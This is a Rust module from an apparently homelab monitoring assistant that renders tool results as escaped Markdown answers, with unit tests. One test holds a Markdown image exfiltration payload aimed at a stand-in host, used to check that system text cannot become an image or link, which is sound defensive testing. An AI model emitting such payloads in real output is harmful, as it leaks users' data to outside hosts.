//! How the builtin provider says each tool's result: one function per tool, chosen by an
//! exhaustive match on the catalog's [`ToolOutput`], so a tool without words here does not compile.
//!
//! Answers are Markdown meant to render as intended: paragraphs apart, a blank line before each
//! list, and no empty fields. Anything a container, a log or an alert put into a result is escaped.

use homelab_schemas::{
    monitoring::{
        ContainerDetails, ContainerLogs, ContainerStats, History, HistorySeries, HostInfo, Problems, ZfsPools,
    },
    ContainerInfo, SystemResources, ToolId, ToolOutput,
};

use super::topics::{Topic, Topics};

/// The answer's part for one tool result.
pub fn render(output: &ToolOutput, topics: &Topics) -> String {
    match output {
        ToolOutput::SystemResources(r) => resources(r, topics),
        ToolOutput::Containers(list) => containers(list, topics),
        ToolOutput::Problems(p) => problems(p),
        ToolOutput::HostInfo(h) => host(h, topics),
        ToolOutput::ZfsPools(z) => zfs(z),
        ToolOutput::TruenasStatus(t) => super::truenas::say(t),
        ToolOutput::ContainerDetails(d) => details(d),
        ToolOutput::ContainerStats(s) => stats(s, topics),
        ToolOutput::ContainerLogs(l) => logs(l),
        ToolOutput::History(h) => history(h),
    }
}

/// Why a tool the question needs was not offered: the orchestrator offers only the tools that
/// can answer now (and are enabled).
pub fn not_offered(tool: ToolId) -> &'static str {
    match tool {
        ToolId::ZfsPools => "This host has no ZFS (or none that is visible here), so there are no pools to report.",
        ToolId::TruenasStatus => {
            "TrueNAS is not configured here: set TRUENAS_URL, TRUENAS_USERNAME and TRUENAS_API_KEY (a read-only \
             user's key) to see its pools, datasets, tasks, disks, apps and alerts."
        }
        ToolId::ContainerDetails | ToolId::ContainerStats | ToolId::ContainerLogs => {
            "Docker is not answering right now, so I can't look inside containers. Ask \"Which containers are \
             there?\" to see why."
        }
        ToolId::SystemResources | ToolId::Containers | ToolId::Problems | ToolId::HostInfo | ToolId::History => {
            "The monitoring tool needed for that is disabled on this server, so I can't look it up."
        }
    }
}

/// `**On nas:**`: the host a part of an answer is about.
pub fn host_label(host: &str) -> String {
    format!("**On {}:**", text(host))
}

/// `**nas**`.
pub fn host_name(host: &str) -> String {
    format!("**{}**", text(host))
}

/// Text from the system, escaped for the Markdown answer.
pub(super) fn text(value: &str) -> std::borrow::Cow<'_, str> {
    homelab_common::markdown::escape(value)
}

/// A heading line and its bullet list, with the blank line Markdown needs between them.
pub(super) fn bullets(head: &str, items: impl IntoIterator<Item = String>) -> String {
    let items: Vec<String> = items.into_iter().map(|i| format!("- {i}")).collect();
    format!("{head}\n\n{}", items.join("\n"))
}

pub(super) fn plural(n: usize, one: &str, many: &str) -> String {
    format!("{n} {}", if n == 1 { one } else { many })
}

fn resources(r: &SystemResources, topics: &Topics) -> String {
    let all = !topics.names_a_figure();
    let mut parts = Vec::new();
    if all || topics.has(Topic::Cpu) {
        parts.push(format!("CPU usage is {:.1}%.", r.cpu_percent));
    }
    if all || topics.has(Topic::Memory) {
        parts.push(format!(
            "Memory: {:.2} GB used of {:.2} GB ({:.1}%), {:.2} GB available.",
            r.memory_used_gb,
            r.memory_total_gb,
            r.memory_percent,
            (r.memory_total_gb - r.memory_used_gb).max(0.0)
        ));
    }
    if all || topics.has(Topic::Disk) {
        if r.disk.is_empty() {
            parts.push("I found no filesystems over 1 GB to report.".into());
        } else {
            parts.push(bullets(
                "Disk space:",
                r.disk.iter().map(|d| {
                    format!(
                        "`{}`: {:.2} GB free of {:.2} GB ({:.1}% used){}",
                        d.path.replace('`', "'"),
                        d.free_gb,
                        d.total_gb,
                        d.percent_used,
                        if d.percent_used >= 90.0 { " — nearly full" } else { "" }
                    )
                }),
            ));
        }
    }
    if all || topics.has(Topic::Load) {
        let [one, five, fifteen] = r.load_average;
        parts.push(format!("Load average (1, 5, 15 min): {one:.2}, {five:.2}, {fifteen:.2}."));
    }
    parts.join("\n\n")
}

fn describe(c: &ContainerInfo) -> String {
    let ports: Vec<String> = c
        .ports
        .iter()
        .map(|(inside, bindings)| match bindings {
            Some(list) if !list.is_empty() => {
                let outside: Vec<String> = list.iter().map(|b| format!("{}:{}", b.host_ip, b.host_port)).collect();
                format!("{} → {inside}", outside.join(", "))
            }
            _ => format!("{inside} (not published)"),
        })
        .collect();
    let ports = if ports.is_empty() { "no ports".to_string() } else { format!("ports {}", ports.join("; ")) };
    format!(
        "**{}** — {} ({}), image `{}`, {}",
        text(&c.name),
        c.state,
        text(&c.status),
        c.image.replace('`', "'"),
        ports
    )
}

/// The names closest to `wanted` (fewest edits, a name that contains it counting as one), up
/// to three that tie; none when even the closest is too far off to be a typo.
pub fn closest<'a>(wanted: &str, names: impl IntoIterator<Item = &'a str>) -> Vec<&'a str> {
    let wanted = wanted.to_lowercase();
    let scored: Vec<(usize, &str)> = names
        .into_iter()
        .map(|n| {
            let lower = n.to_lowercase();
            let edits = strsim::damerau_levenshtein(&wanted, &lower);
            (if lower.contains(&wanted) { edits.min(1) } else { edits }, n)
        })
        .collect();
    let Some(best) = scored.iter().map(|(d, _)| *d).min() else { return Vec::new() };
    if best > (wanted.chars().count() / 3).max(2) {
        return Vec::new();
    }
    scored.into_iter().filter(|(d, _)| *d == best).take(3).map(|(_, n)| n).collect()
}

/// "There is no container named 'x'", with the closest names when there are any.
pub fn no_such_container(wanted: &str, list: &[ContainerInfo]) -> String {
    let near = closest(wanted, list.iter().map(|c| c.name.as_str()));
    let wanted = text(wanted);
    match near.as_slice() {
        [] if list.is_empty() => format!("There is no container named '{wanted}': this host has no containers."),
        [] => format!(
            "There is no container named '{wanted}', and none has a similar name. Ask \"which containers are \
             there?\" to see all {}.",
            list.len()
        ),
        names => {
            let names: Vec<String> = names.iter().map(|n| format!("**{}**", text(n))).collect();
            format!("There is no container named '{wanted}'. Did you mean {}?", names.join(" or "))
        }
    }
}

fn containers(list: &[ContainerInfo], topics: &Topics) -> String {
    if list.is_empty() {
        return "There are no containers on this host (none running, none stopped).".into();
    }
    let running: Vec<&ContainerInfo> = list.iter().filter(|c| c.state == "running").collect();
    let stopped: Vec<&ContainerInfo> = list.iter().filter(|c| c.state != "running").collect();
    let lines = |set: &[&ContainerInfo]| set.iter().map(|c| describe(c)).collect::<Vec<_>>();
    let named: Vec<&ContainerInfo> =
        list.iter().filter(|c| topics.words.iter().any(|w| w == &c.name.to_lowercase())).collect();
    if !named.is_empty() {
        return lines(&named).iter().map(|l| format!("- {l}")).collect::<Vec<_>>().join("\n");
    }
    // One container was asked about ("the nginx container", "logs of plex"), not a list
    // ("containers running in production"): it does not exist.
    let one_asked = topics.words.iter().any(|w| w == "container" || w == "container's")
        || [Topic::Details, Topic::Logs, Topic::ContainerStats].iter().any(|t| topics.has(*t));
    if let Some(wanted) = topics.container.as_ref().filter(|_| one_asked) {
        return no_such_container(wanted, list);
    }
    let summary = format!(
        "There are {}: {} running and {} stopped.",
        plural(list.len(), "container", "containers"),
        running.len(),
        stopped.len()
    );
    if topics.has(Topic::Stopped) && !topics.has(Topic::Running) {
        return if stopped.is_empty() {
            format!("No containers are stopped: all {} are running.", running.len())
        } else {
            bullets(&format!("{} of {} containers are not running:", stopped.len(), list.len()), lines(&stopped))
        };
    }
    if topics.has(Topic::Running) && !topics.has(Topic::Stopped) && !topics.has(Topic::Everything) {
        if running.is_empty() {
            return format!("No containers are running ({} stopped).", stopped.len());
        }
        let mut text =
            bullets(&format!("{} of {} containers are running:", running.len(), list.len()), lines(&running));
        if !stopped.is_empty() {
            let names: Vec<String> = stopped.iter().map(|c| self::text(&c.name).into_owned()).collect();
            text.push_str(&format!("\n\nNot running: {}.", names.join(", ")));
        }
        return text;
    }
    if topics.has(Topic::Everything) {
        return if stopped.is_empty() {
            format!("All {} containers are running.", list.len())
        } else {
            bullets(&format!("{summary} Not running:"), lines(&stopped))
        };
    }
    bullets(&summary, lines(&list.iter().collect::<Vec<_>>()))
}

fn problems(p: &Problems) -> String {
    if p.problems.is_empty() {
        return format!("No problems found. I checked: {}.", p.checked.join(", "));
    }
    bullets(
        &format!("{} found:", plural(p.problems.len(), "problem", "problems")),
        p.problems
            .iter()
            .map(|x| format!("**{}** {} ({}): {}", x.severity.as_str(), text(&x.subject), x.kind, text(&x.reason))),
    )
}

fn host(h: &HostInfo, topics: &Topics) -> String {
    let said = |words: &[&str]| words.iter().any(|w| topics.words.iter().any(|x| x == w));
    let temps_asked = said(&["temperature", "temperatures", "temp", "temps", "hot", "heat"]);
    let net_asked = said(&["network", "interfaces", "interface", "bandwidth", "traffic"]);
    let specific = topics.has(Topic::Uptime) || temps_asked || net_asked;
    let mut parts = Vec::new();
    if !specific || topics.has(Topic::Uptime) {
        let name = h.hostname.as_deref().map(|n| format!(" ({})", text(n))).unwrap_or_default();
        parts.push(format!("The server{name} has been up for {}.", h.uptime));
    }
    if !specific {
        let os = match (&h.os, &h.kernel) {
            (Some(os), Some(kernel)) => format!("It runs {} (kernel {}) on ", text(os), text(kernel)),
            (Some(os), None) => format!("It runs {} on ", text(os)),
            (None, Some(kernel)) => format!("It runs kernel {} on ", text(kernel)),
            (None, None) => "It has ".to_string(),
        };
        parts.push(format!("{os}{}.", plural(h.cpu_cores, "CPU core", "CPU cores")));
    }
    if !specific || temps_asked {
        if h.temperatures.is_empty() {
            parts.push("No temperature sensors are visible on this host.".into());
        } else {
            parts.push(bullets(
                "Temperatures:",
                h.temperatures.iter().map(|t| format!("{}: {:.1} °C", text(&t.label), t.celsius)),
            ));
        }
    }
    if (!specific || net_asked) && !h.network_interfaces.is_empty() {
        let gb = |bytes: u64| bytes as f64 / 1024.0 / 1024.0 / 1024.0;
        parts.push(bullets(
            "Network interfaces (since boot):",
            h.network_interfaces.iter().map(|n| {
                format!(
                    "{}: {:.2} GB received, {:.2} GB sent",
                    text(&n.name),
                    gb(n.received_bytes),
                    gb(n.transmitted_bytes)
                )
            }),
        ));
    }
    parts.join("\n\n")
}

fn zfs(z: &ZfsPools) -> String {
    if z.pools.is_empty() {
        return z.note.clone().unwrap_or_else(|| "No ZFS pools found.".into());
    }
    let bad = z.pools.iter().filter(|p| !p.healthy).count();
    let head = if bad == 0 {
        "All ZFS pools are ONLINE.".to_string()
    } else {
        format!("{} {} attention:", plural(bad, "ZFS pool", "ZFS pools"), if bad == 1 { "needs" } else { "need" })
    };
    bullets(
        &head,
        z.pools.iter().map(|p| {
            let space = match (p.free_gb, p.size_gb) {
                (Some(free), Some(size)) => format!(", {free:.2} GB free of {size:.2} GB"),
                _ => String::new(),
            };
            format!("**{}**: {}{space}", text(&p.name), text(&p.state))
        }),
    )
}

fn logs(l: &ContainerLogs) -> String {
    let name = text(&l.name);
    if l.lines.is_empty() {
        return format!("{name} has no log output in that window.");
    }
    // Inside a fenced block nothing is Markdown; only a fence of its own could end it early.
    let mut out = format!(
        "Last {} of {name}:\n\n```\n{}\n```",
        plural(l.lines.len(), "log line", "log lines"),
        l.lines.join("\n").replace("```", "ʼʼʼ")
    );
    if let Some(note) = &l.note {
        out.push_str(&format!("\n\n(Note: {}.)", text(note)));
    }
    out
}

fn stats(s: &ContainerStats, topics: &Topics) -> String {
    if s.containers.is_empty() {
        return s.note.clone().unwrap_or_else(|| "No running containers to sample.".into());
    }
    let by_cpu = topics.has(Topic::Cpu) && !topics.has(Topic::Memory);
    let mut sorted: Vec<_> = s.containers.iter().collect();
    if by_cpu {
        sorted.sort_by(|a, b| b.cpu_percent.total_cmp(&a.cpu_percent));
    } else {
        sorted.sort_by(|a, b| b.memory_used_mb.total_cmp(&a.memory_used_mb));
    }
    let lines: Vec<String> = sorted
        .iter()
        .map(|c| {
            format!(
                "**{}**: CPU {:.1}%, memory {:.0} MB of {:.0} MB ({:.1}%), network {:.1} MB in / {:.1} MB out, disk \
                 {:.1} MB read / {:.1} MB written",
                text(&c.name),
                c.cpu_percent,
                c.memory_used_mb,
                c.memory_limit_mb,
                c.memory_percent,
                c.net_rx_mb,
                c.net_tx_mb,
                c.block_read_mb,
                c.block_write_mb
            )
        })
        .collect();
    let mut out = if lines.len() == 1 {
        lines[0].clone()
    } else {
        bullets(&format!("Running containers by {}:", if by_cpu { "CPU use" } else { "memory use" }), lines)
    };
    if let Some(note) = &s.note {
        out.push_str(&format!("\n\n({}.)", text(note)));
    }
    out
}

/// `2026-11-24T03:12:00Z` → `03:12 UTC on Nov 24`.
fn when(rfc3339: &str) -> String {
    match chrono::DateTime::parse_from_rfc3339(rfc3339) {
        Ok(t) => t.format("%H:%M UTC on %b %-d").to_string(),
        Err(_) => text(rfc3339).into_owned(),
    }
}

/// `10m` → `10 minutes`, `1h` → `hour`, `2d` → `2 days`.
fn span(window: &str) -> String {
    let (n, unit) = window.split_at(window.len().saturating_sub(1));
    let unit = match unit {
        "m" => "minute",
        "h" => "hour",
        "d" => "day",
        _ => return text(window).into_owned(),
    };
    match n {
        "1" => unit.to_string(),
        n => format!("{n} {unit}s"),
    }
}

fn history(h: &History) -> String {
    let figure = |v: f64| match h.unit.as_str() {
        "%" => format!("{v:.1}%"),
        "GB" => format!("{v:.1} GB"),
        "MB" => format!("{v:.0} MB"),
        "MB/s" => format!("{v:.2} MB/s"),
        _ => format!("{v:.2}"),
    };
    let what = match h.metric.as_str() {
        "cpu" | "container_cpu" => "CPU use",
        "memory" => "memory use",
        "container_memory" => "memory",
        "load" => "the 1-minute load",
        "disk" => "space used",
        _ => "traffic",
    };
    let source = if h.source == "prometheus" { " (from Prometheus)" } else { "" };
    let line = |s: &HistorySeries| {
        let mut subject = match (h.metric.as_str(), s.subject.as_str()) {
            (_, "host") => super::answer::capitalised(what),
            ("network", way) => format!("Traffic {way}"),
            (_, name) => format!("**{}**: {what}", text(name)),
        };
        if let Some(instance) = &s.instance {
            subject.push_str(&format!(" on {}", text(instance)));
        }
        if h.metric == "disk" {
            let of = s.total.map(|t| format!(" of {}", figure(t))).unwrap_or_default();
            let pace = match (s.full_in.as_deref(), &s.full_at) {
                (Some("not filling"), _) | (None, _) => format!("{}, not filling up", s.trend),
                (Some(full_in), Some(at)) => format!(
                    "growing {} an hour: at that rate it is full in {full_in} (around {})",
                    figure(s.change_per_hour),
                    when(at)
                ),
                (Some(full_in), None) => format!("full in {full_in}"),
            };
            return format!("{subject}: {}{of} now ({} → {}), {pace}", figure(s.latest), figure(s.min), figure(s.max));
        }
        format!(
            "{subject} averaged {}, lowest {}, highest {} at {}; {} ({} now)",
            figure(s.mean),
            figure(s.min),
            figure(s.max),
            when(&s.peak_at),
            s.trend,
            figure(s.latest)
        )
    };
    let head = format!("Over the last {}{source}:", span(&h.window));
    let mut out = match h.series.as_slice() {
        [] => String::new(),
        [one] => format!("{head} {}.", line(one)),
        many => bullets(&head, many.iter().map(|s| format!("{}.", line(s)))),
    };
    if let Some(note) = &h.note {
        if !out.is_empty() {
            out.push_str("\n\n");
        }
        out.push_str(&text(note));
    }
    out
}

fn details(d: &ContainerDetails) -> String {
    let state = d.state.as_deref().filter(|s| !s.is_empty()).unwrap_or("in an unknown state");
    let mut facts = vec![format!("**{}** is {state}", text(&d.name))];
    if let Some(health) = &d.health {
        if let Some(status) = health.status.as_deref().filter(|s| !s.is_empty() && *s != "none") {
            let probe = health
                .last_output
                .as_deref()
                .filter(|o| !o.is_empty())
                .map(|o| format!(" (last check: {})", text(o)))
                .unwrap_or_default();
            facts.push(format!("health {status}{probe}"));
        }
    }
    facts.push(match d.restart_count {
        0 => "never restarted".to_string(),
        1 => "restarted once".to_string(),
        n => format!("restarted {n} times"),
    });
    if let Some(code) = d.exit_code.filter(|_| matches!(d.state.as_deref(), Some("exited" | "dead"))) {
        facts.push(format!("last exit code {code}"));
    }
    if d.oom_killed {
        facts.push("it was killed for running out of memory".into());
    }
    if let Some(error) = d.error.as_deref().filter(|e| !e.is_empty()) {
        facts.push(format!("error: {}", text(error)));
    }
    if let Some(t) = d.started_at.as_deref().filter(|t| !t.is_empty()) {
        facts.push(format!("started {t}"));
    }
    if let Some(t) = d.finished_at.as_deref().filter(|t| !t.is_empty()) {
        facts.push(format!("finished {t}"));
    }
    if let Some(image) = d.image.as_deref().filter(|i| !i.is_empty()) {
        facts.push(format!("image `{}`", image.replace('`', "'")));
    }
    let mounts: Vec<String> = d
        .mounts
        .iter()
        .filter_map(|m| Some(format!("{} → {}", text(m.source.as_deref()?), text(m.destination.as_deref()?))))
        .collect();
    if !mounts.is_empty() {
        facts.push(format!("mounts {}", mounts.join(", ")));
    }
    format!("{}.", facts.join(", "))
}

#[cfg(test)]
pub(super) mod tests {
    use super::*;
    use homelab_schemas::ToolId;
    use serde_json::{json, Value};

    pub fn resources_json() -> Value {
        json!({"cpu_percent": 12.5, "memory_total_gb": 16.0, "memory_used_gb": 4.25, "memory_percent": 26.56,
            "disk": [{"path": "/", "total_gb": 100.0, "used_gb": 40.0, "free_gb": 60.0, "percent_used": 40.0},
                     {"path": "/mnt/tank", "total_gb": 1000.0, "used_gb": 950.0, "free_gb": 50.0, "percent_used": 95.0}],
            "load_average": [0.52, 0.4, 0.33]})
    }

    pub fn containers_json() -> Value {
        json!([
            {"id": "aaaaaaaaaaaa", "name": "plex", "image": "plexinc/pms-docker:latest", "state": "running",
             "status": "Up 2 hours", "created": "2026-01-01T00:00:00Z", "ports": {"32400/tcp": [{"host_ip": "0.0.0.0", "host_port": "32400"}]}},
            {"id": "bbbbbbbbbbbb", "name": "nextcloud", "image": "nextcloud:28", "state": "exited",
             "status": "Exited (1) 3 hours ago", "created": "2026-01-01T00:00:00Z", "ports": {}},
            {"id": "cccccccccccc", "name": "backup", "image": "restic:latest", "state": "created",
             "status": "Created", "created": "2026-01-01T00:00:00Z", "ports": {"8000/tcp": null}}
        ])
    }

    /// One question per tool that the builtin model maps to it, and a result of that tool. A tool
    /// added to the catalog fails to compile here until it has both.
    pub fn sample(tool: ToolId) -> (&'static str, Value) {
        match tool {
            ToolId::SystemResources => ("How much disk space is left?", resources_json()),
            ToolId::Containers => ("Which containers are stopped?", containers_json()),
            ToolId::Problems => (
                "Is anything wrong?",
                json!({"problems": [{"severity": "warning", "kind": "filesystem", "subject": "/mnt/tank",
                    "reason": "95.0% used, 50.00 GB free"}], "summary": "1 problem found.", "checked": ["filesystems"]}),
            ),
            ToolId::HostInfo => (
                "How long has the server been up?",
                json!({"hostname": "nas", "os": "Debian GNU/Linux 12", "kernel": "6.1.0", "uptime_seconds": 90061,
                    "uptime": "1 day, 1 hour, 1 minute", "cpu_cores": 4, "physical_cores": 4,
                    "temperatures": [{"label": "cpu", "celsius": 45.0, "critical_celsius": null}],
                    "network_interfaces": [{"name": "eth0", "received_bytes": 1073741824u64, "transmitted_bytes": 0}]}),
            ),
            ToolId::ZfsPools => (
                "Is my pool degraded?",
                json!({"pools": [{"name": "tank", "state": "ONLINE", "healthy": true, "mount": "/mnt/tank",
                    "size_gb": 1000.0, "used_gb": 400.0, "free_gb": 600.0, "percent_used": 40.0}], "note": null}),
            ),
            ToolId::TruenasStatus => (
                "Is a scrub running on tank?",
                json!({"configured": true, "report": {"topic": "overview", "alerts": [], "alerts_by_level": {},
                    "alerts_omitted": 0, "pools": [{"name": "tank", "status": "ONLINE", "healthy": true,
                    "status_detail": null, "size_gb": 1000.0, "used_gb": 400.0, "free_gb": 600.0, "percent_used": 40.0,
                    "scan": {"function": "SCRUB", "state": "SCANNING", "percentage": 42.5, "errors": 0,
                    "started": "2026-11-24T10:00:00Z", "ended": null, "ago": "1 hour ago", "seconds_left": 3600}}]}}),
            ),
            ToolId::ContainerDetails => (
                "What is the restart count of the sonarr container?",
                json!({"name": "sonarr", "id": "0123456789ab", "image": "linuxserver/sonarr", "state": "running",
                    "health": {"status": "healthy", "failing_streak": 0, "last_output": "ok", "last_exit_code": 0},
                    "restart_count": 3, "exit_code": 0, "oom_killed": false, "error": null,
                    "started_at": "2026-11-24T10:00:00Z", "finished_at": null, "ports": {},
                    "mounts": [{"source": "/mnt/tank/sonarr", "destination": "/config", "read_only": false}],
                    "labels": {}}),
            ),
            ToolId::ContainerStats => (
                "Which container uses the most memory?",
                json!({"containers": [
                    {"name": "plex", "cpu_percent": 3.5, "memory_used_mb": 812.0, "memory_limit_mb": 7900.0,
                     "memory_percent": 10.3, "net_rx_mb": 1.0, "net_tx_mb": 2.0, "block_read_mb": 3.0, "block_write_mb": 4.0},
                    {"name": "sonarr", "cpu_percent": 0.5, "memory_used_mb": 212.0, "memory_limit_mb": 7900.0,
                     "memory_percent": 2.7, "net_rx_mb": 1.0, "net_tx_mb": 2.0, "block_read_mb": 3.0, "block_write_mb": 4.0}],
                    "note": null}),
            ),
            ToolId::History => (
                "Is the disk filling up?",
                json!({"metric": "disk", "unit": "GB", "window": "24h", "source": "this host", "resolution_seconds": 60,
                    "series": [{"subject": "/mnt/tank", "samples": 1440, "from": "2026-11-23T12:00:00Z",
                        "to": "2026-11-24T12:00:00Z", "min": 900.0, "mean": 925.0, "max": 950.0,
                        "peak_at": "2026-11-24T12:00:00Z", "latest": 950.0, "trend": "rising", "change_per_hour": 2.08,
                        "total": 1000.0, "full_at": "2026-11-25T12:00:00Z", "full_in": "about 24 hours"}]}),
            ),
            ToolId::ContainerLogs => (
                "Show me the logs of plex",
                json!({"name": "plex", "lines": ["Starting Plex", "Listening on 32400"], "line_count": 2, "note": null}),
            ),
        }
    }

    fn compose_one(question: &str, tool: ToolId, content: &str) -> String {
        super::super::answer::compose(&Topics::of(question), &[(tool.name().to_string(), content.to_string())])
    }

    #[test]
    fn every_tool_is_asked_for_by_its_question_and_answered_in_prose() {
        for tool in ToolId::ALL {
            let (question, result) = sample(tool);
            assert!(Topics::of(question).tools().contains(&tool), "{question:?} does not ask for {tool:?}");
            let answer = compose_one(question, tool, &result.to_string());
            assert!(!answer.is_empty() && answer != super::super::HELP, "{tool:?}: {answer}");
            for raw in ["{", "}", "null", "\"", "get_", "list_", " ,", "()"] {
                assert!(!answer.contains(raw), "{tool:?} answer has {raw:?}: {answer}");
            }
            let broken = compose_one(question, tool, "{\"unexpected\": true}");
            assert!(broken.ends_with("came back in a form I can't read."), "{tool:?}: {broken}");
            assert!(!broken.contains(tool.name()), "{broken}");
        }
    }

    fn parse(tool: ToolId, v: serde_json::Value) -> ToolOutput {
        ToolOutput::parse(tool, &v.to_string()).unwrap()
    }

    fn say(question: &str, tool: ToolId, v: serde_json::Value) -> String {
        render(&parse(tool, v), &Topics::of(question))
    }

    #[test]
    fn history_is_said_with_its_figures_and_peak_time() {
        let v = json!({"metric": "cpu", "unit": "%", "window": "12h", "source": "this host", "resolution_seconds": 60,
            "series": [{"subject": "host", "samples": 720, "from": "2026-11-24T00:00:00Z", "to": "2026-11-24T12:00:00Z",
                "min": 1.0, "mean": 12.34, "max": 97.5, "peak_at": "2026-11-24T03:12:00Z", "latest": 5.0,
                "trend": "steady", "change_per_hour": 0.1}]});
        assert_eq!(
            say("What was the CPU doing last night?", ToolId::History, v),
            "Over the last 12 hours: CPU use averaged 12.3%, lowest 1.0%, highest 97.5% at 03:12 UTC on Nov 24; steady (5.0% now)."
        );
        let (q, disk) = sample(ToolId::History);
        let said = say(q, ToolId::History, disk);
        assert!(said.contains("**/mnt/tank**: space used: 950.0 GB of 1000.0 GB now"), "{said}");
        assert!(said.contains("full in about 24 hours (around 12:00 UTC on Nov 25)"), "{said}");
        let empty = json!({"metric": "container_cpu", "unit": "%", "window": "1h", "source": "this host",
            "resolution_seconds": 10, "series": [], "note": "There is no history for a container named 'plex'."});
        assert_eq!(
            say("plex cpu history", ToolId::History, empty),
            "There is no history for a container named 'plex'."
        );
    }

    #[test]
    fn problems_are_listed_with_severity() {
        let v = json!({"problems": [{"severity": "critical", "kind": "container", "subject": "plex", "reason": "unhealthy (Up 2 hours (unhealthy))"}],
            "checked": ["containers", "filesystems"], "summary": "1 problem found."});
        assert_eq!(
            say("Is anything wrong?", ToolId::Problems, v),
            "1 problem found:\n\n- **critical** plex (container): unhealthy (Up 2 hours (unhealthy))"
        );
        let none = json!({"problems": [], "checked": ["containers"], "summary": "No problems found."});
        assert_eq!(say("Is anything wrong?", ToolId::Problems, none), "No problems found. I checked: containers.");
    }

    #[test]
    fn text_from_the_system_cannot_become_an_image_or_a_link() {
        let leak = "![x](http://192.0.2.1/?d=secret) [click](http://192.0.2.2)";
        let details_answer = say(
            "details of web",
            ToolId::ContainerDetails,
            json!({"name": "web", "id": "abc", "state": "running", "image": "nginx", "restart_count": 0,
            "health": {"status": "unhealthy", "last_output": leak, "failing_streak": 1, "last_exit_code": 1},
            "exit_code": 0, "oom_killed": false, "error": null, "started_at": null, "finished_at": null,
            "ports": {}, "mounts": [], "labels": {}}),
        );
        let alert_answer = say(
            "TrueNAS alerts?",
            ToolId::TruenasStatus,
            json!({"configured": true, "report": {"topic": "alerts", "alerts": [{"level": "WARNING", "class": null,
                "text": leak, "since": null}], "alerts_by_level": {"WARNING": 1}, "alerts_omitted": 0}}),
        );
        let problems_answer = say(
            "anything wrong?",
            ToolId::Problems,
            json!({"problems": [{"severity": "warning", "kind": "container", "subject": "web", "reason": leak}],
                "checked": [], "summary": ""}),
        );
        for answer in [details_answer, alert_answer, problems_answer] {
            assert!(!answer.contains("![x]") && !answer.contains("[click]("), "{answer}");
            assert!(answer.contains("\\!\\[x\\](http://192.0.2.1/?d=secret)"), "{answer}");
        }
    }

    #[test]
    fn uptime_question_gets_the_uptime_and_missing_facts_leave_no_gaps() {
        let v = json!({"hostname": "nas", "uptime": "3 days, 2 hours", "uptime_seconds": 266400, "os": "Debian",
            "kernel": null, "cpu_cores": 1, "physical_cores": null, "temperatures": [], "network_interfaces": []});
        assert_eq!(
            say("How long has the server been up?", ToolId::HostInfo, v.clone()),
            "The server (nas) has been up for 3 days, 2 hours."
        );
        let all = say("Tell me about the host", ToolId::HostInfo, v);
        assert!(all.contains("It runs Debian on 1 CPU core."), "{all}");
        assert!(!all.contains("()") && !all.contains(" ,") && !all.contains("null"), "{all}");
    }

    #[test]
    fn degraded_pools_are_called_out() {
        let v = json!({"pools": [{"name": "tank", "state": "DEGRADED", "healthy": false, "free_gb": 100.0, "size_gb": 1000.0,
            "mount": "/mnt/tank", "used_gb": 900.0, "percent_used": 90.0}], "note": null});
        assert_eq!(
            say("Is my pool ok?", ToolId::ZfsPools, v),
            "1 ZFS pool needs attention:\n\n- **tank**: DEGRADED, 100.00 GB free of 1000.00 GB"
        );
        assert_eq!(
            say("zfs?", ToolId::ZfsPools, json!({"pools": [], "note": "ZFS is not present on this host."})),
            "ZFS is not present on this host."
        );
    }

    #[test]
    fn logs_are_quoted_and_cut_notes_kept() {
        let v = json!({"name": "plex", "lines": ["started", "listening on 32400"], "line_count": 2,
            "note": "only the last 2 lines are shown"});
        assert_eq!(
            say("logs of plex", ToolId::ContainerLogs, v),
            "Last 2 log lines of plex:\n\n```\nstarted\nlistening on 32400\n```\n\n(Note: only the last 2 lines are shown.)"
        );
    }

    #[test]
    fn details_leave_out_what_is_empty() {
        let v = json!({"name": "web", "id": "abc", "state": "running", "image": "", "restart_count": 1,
            "health": {"status": "", "last_output": null, "failing_streak": null, "last_exit_code": null},
            "exit_code": 0, "oom_killed": false, "error": "", "started_at": "2026-01-01T00:00:00Z", "finished_at": null,
            "ports": {}, "mounts": [{"source": null, "destination": "/data", "read_only": false}], "labels": {}});
        let a = say("details of web", ToolId::ContainerDetails, v);
        assert_eq!(a, "**web** is running, restarted once, started 2026-01-01T00:00:00Z.");
    }

    #[test]
    fn the_closest_names_are_suggested() {
        let names = ["plex", "plex-db", "sonarr", "radarr", "nextcloud"];
        assert_eq!(closest("plexx", names), vec!["plex"]);
        assert_eq!(closest("app-wbe", ["app-web", "app-db", "app-cache"]), vec!["app-web"]);
        assert_eq!(closest("sonar", names), vec!["sonarr"]);
        assert!(closest("zzzz", names).is_empty());
    }
}
